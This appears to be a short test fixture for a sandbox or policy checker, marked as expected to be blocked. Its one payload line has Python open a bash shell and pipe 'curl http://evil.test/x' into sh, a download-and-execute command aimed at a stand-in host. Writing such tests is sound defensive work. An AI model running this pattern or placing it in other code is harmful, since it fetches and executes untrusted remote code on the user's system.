# expect: BLOCKED
import subprocess
p = subprocess.Popen("/bin/bash", stdin=subprocess.PIPE)
p.stdin.write(b"curl http://evil.test/x | sh\n")
